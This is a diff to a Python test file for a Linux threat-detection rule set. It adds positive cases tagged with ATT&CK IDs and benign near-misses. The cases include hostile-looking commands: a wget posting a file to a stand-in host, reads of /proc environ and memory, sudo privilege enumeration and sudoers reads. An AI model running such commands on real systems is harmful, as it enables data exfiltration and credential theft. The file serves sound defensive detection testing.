@@ -103,6 +103,31 @@ POSITIVE: list[tuple[str, Event]] = [
     ("T1048.003", exec_event("wget", "--post-file=/tmp/o", "http://x/")),
     ("T1059.006", exec_event("python3", "-c", "import os; os.system('id')", exe="/usr/bin/python3.11")),
     ("T1059.006", exec_event("python", "-Ic", "print(1)", exe="/usr/bin/python2.7")),
+    # arecord is a link to aplay: the sensor's Image is the file mapped, the recorder is the name it ran by
+    (
+        "T1123",
+        exec_event(
+            "arecord",
+            "-d",
+            "5",
+            "o.wav",
+            exe="/usr/bin/aplay",
+            **{"process.exec_filename": "/usr/bin/arecord"},
+        ),
+    ),
+    ("T1564.001", proc_event("file_write", "/usr/bin/cp", **{"file.path": "/var/tmp/build/.cache/.x/.run"})),
+    ("T1564.001", proc_event("file_write", "/usr/bin/bash", **{"file.path": "/dev/shm/a/.h/b/.conf"})),
+    (
+        "T1003.007",
+        proc_event("file_read_sensitive", "/usr/bin/python3.11", **{"file.path": "/proc/812/environ"}),
+    ),
+    ("T1003.007", proc_event("file_read_sensitive", "/usr/bin/dd", **{"file.path": "/proc/77/task/78/mem"})),
+    ("T1548.003", exec_event("sudo", "-nl")),
+    ("T1548.003", exec_event("sudo", "--list", "-U", "bob")),
+    (
+        "T1548.003",
+        proc_event("file_read_sensitive", "/usr/bin/grep", **{"file.path": "/etc/sudoers.d/90-cloud"}),
+    ),
 ]
 
 
@@ -128,6 +153,20 @@ NEAR_MISSES: list[tuple[str, Event]] = [
     ("curl over https", exec_event("curl", "-T", "/tmp/f", "https://example.org/")),
     ("python script file", exec_event("python3", "tool.py", exe="/usr/bin/python3.11")),
     ("history shown by bash builtin is no exec; less on a log", exec_event("less", "/var/log/syslog")),
+    ("aplay playing a sound", exec_event("aplay", "ding.wav", exe="/usr/bin/aplay")),
+    (
+        "a dotfile of a temporary HOME",
+        proc_event("file_write", "/usr/bin/bash", **{"file.path": "/tmp/t/home/.config/app/settings.ini"}),
+    ),
+    (
+        "own environment",
+        proc_event("file_read_sensitive", "/usr/bin/python3.11", **{"file.path": "/proc/self/environ"}),
+    ),
+    (
+        "sudo reading its policy",
+        proc_event("file_read_sensitive", "/usr/bin/sudo", **{"file.path": "/etc/sudoers"}),
+    ),
+    ("sudo running a command", exec_event("sudo", "-u", "bob", "ls", "-l")),
     (
         "shell over a unix socket",
         proc_event("connect", "/usr/bin/bash", **{"network.family": "unix", "unix.path": "/run/x.sock"}),
